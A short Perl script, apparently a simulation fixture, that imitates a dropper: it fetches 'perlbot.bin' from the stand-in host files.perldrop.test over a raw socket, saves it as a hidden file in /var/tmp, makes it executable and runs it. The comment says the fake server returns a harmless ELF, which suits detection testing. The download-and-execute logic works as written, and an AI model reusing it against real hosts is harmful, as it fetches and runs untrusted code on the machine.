#!/usr/bin/perl
# Imitates a Perl dropper: raw HTTP GET of a "binary" over IO::Socket, written to /var/tmp, made
# executable and run. The fake web answers a tiny ELF that only exits.
use strict;
use warnings;
use IO::Socket::INET;

my $sock = IO::Socket::INET->new(PeerAddr => 'files.perldrop.test', PeerPort => 80, Proto => 'tcp', Timeout => 10)
  or die "connect: $!";
print $sock "GET /x/perlbot.bin HTTP/1.0\r\nHost: files.perldrop.test\r\n\r\n";
my $response = do { local $/; <$sock> };
close $sock;
my (undef, $body) = split /\r\n\r\n/, $response, 2;
my $path = '/var/tmp/.perlbot';
open my $out, '>:raw', $path or die;
print $out $body;
close $out;
chmod 0755, $path;
system $path;
